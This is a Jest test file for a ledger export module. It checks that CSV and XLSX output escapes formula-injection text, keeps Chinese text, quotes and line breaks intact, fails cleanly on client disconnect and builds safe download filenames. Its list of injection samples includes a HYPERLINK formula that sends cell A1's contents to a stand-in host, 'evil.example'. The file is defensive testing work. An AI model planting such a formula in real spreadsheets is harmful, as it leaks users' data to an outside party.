import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { csvField, csvLine, parseCsv, safeText } from '../../common/csv';
import type { Cell } from '../../common/csv';
import type { Ledger } from '../../services/ledgers';
import { beijingTime, contentDisposition, writeCsv, writeXlsx } from '../../services/ledgers';

/** Formula-injection rows (OWASP "CSV injection") and text that must come out as it went in. */
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

function ledgerOf(rows: Cell[][], pageSize = 2): Ledger {
  return {
    fileName: 'test',
    title: '测试台账',
    columns: ['编号', '名称', '数量'],
    async *pages() {
      for (let i = 0; i < rows.length; i += pageSize) {
        await Promise.resolve();
        yield rows.slice(i, i + pageSize);
      }
    },
  };
}

async function collect(write: (out: PassThrough) => Promise<void>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(out);
  return Buffer.concat(chunks);
}

async function xlsxRows(file: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const rows: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    rows.push((row.values as unknown[]).slice(1));
  });
  return rows;
}

describe('ledger escaping', () => {
  it('when a text cell starts like a formula, then it gets a leading apostrophe', () => {
    for (const text of DANGEROUS) expect(safeText(text)).toBe(`'${text}`);
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1+1')).toBe("'-1+1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t1')).toBe("'\t1");
    expect(csvField('\r1')).toBe(`"'\r1"`);
  });

  it('when text is ordinary, Chinese or has quotes, commas and line breaks, then it survives intact', () => {
    expect(safeText('甲社区-东区')).toBe('甲社区-东区');
    expect(safeText('a=b')).toBe('a=b');
    expect(csvLine(['说"好"', 'a,b', '两\n行', null, -3, 0.5])).toBe(
      '"说""好""","a,b","两\n行",,-3,0.5\r\n',
    );
  });

  it('when a ledger is written as CSV, then a byte order mark, the header and every page come out and parse back', async () => {
    const rows: Cell[][] = DANGEROUS.map((text, i) => [`id-${i}`, text, i]);
    rows.push(['id-x', '办结"满意",谢谢\n第二行', -1]);
    const file = await collect((out) => writeCsv(ledgerOf(rows), out));
    const text = file.toString('utf8');
    expect(text.startsWith('\uFEFF编号,名称,数量\r\n')).toBe(true);
    const parsed = parseCsv(text).map((r) => r.fields);
    expect(parsed).toHaveLength(rows.length + 1);
    DANGEROUS.forEach((danger, i) =>
      expect(parsed[i + 1]).toEqual([`id-${i}`, `'${danger}`, `${i}`]),
    );
    expect(parsed.at(-1)).toEqual(['id-x', '办结"满意",谢谢\n第二行', '-1']);
  });

  it('when a ledger is written as XLSX, then text cells are escaped strings, never formulas, and numbers stay numbers', async () => {
    const rows: Cell[][] = DANGEROUS.map((text, i) => [`id-${i}`, text, i]);
    rows.push(['id-x', '甲社区 “满意”', null]);
    const file = await collect((out) => writeXlsx(ledgerOf(rows), out, '案件台账'));
    expect(file.subarray(0, 2).toString('latin1')).toBe('PK');
    const read = await xlsxRows(file);
    expect(read[0]).toEqual(['编号', '名称', '数量']);
    DANGEROUS.forEach((danger, i) => {
      // XML reads a raw CR as a line feed (line-end normalisation); the apostrophe still leads.
      const back = danger.startsWith('\r') ? `'\n${danger.slice(1)}` : `'${danger}`;
      expect(read[i + 1]).toEqual([`id-${i}`, back, i]);
      expect(typeof read[i + 1]![1]).toBe('string');
    });
    expect(read.at(-1)?.slice(0, 2)).toEqual(['id-x', '甲社区 “满意”']);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]!.name).toBe('案件台账');
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
    );
  });

  it('when the client goes away mid-ledger, then the CSV writer fails instead of waiting forever', async () => {
    const out = new PassThrough({ highWaterMark: 16 });
    const rows: Cell[][] = Array.from({ length: 50 }, (_, i) => [`id-${i}`, 'x'.repeat(100), i]);
    const writing = writeCsv(ledgerOf(rows, 5), out);
    setImmediate(() => out.destroy());
    await expect(writing).rejects.toThrow(/closed/);
  });

  it('when a file is named, then the ASCII fallback and the UTF-8 name are both given', () => {
    expect(contentDisposition('cases-2026-12-06', '案件台账-2026-12-06', 'xlsx')).toBe(
      `attachment; filename="cases-2026-12-06.xlsx"; filename*=UTF-8''${encodeURIComponent('案件台账-2026-12-06.xlsx')}`,
    );
    expect(contentDisposition('a b"c', "x'(y)", 'csv')).toBe(
      `attachment; filename="a_b_c.csv"; filename*=UTF-8''x%27%28y%29.csv`,
    );
  });

  it('when a time is written, then it is Beijing time to the second', () => {
    expect(beijingTime(new Date('2026-12-06T16:05:09.123Z'))).toBe('2026-12-07 00:05:09');
    expect(beijingTime(null)).toBeNull();
  });
});
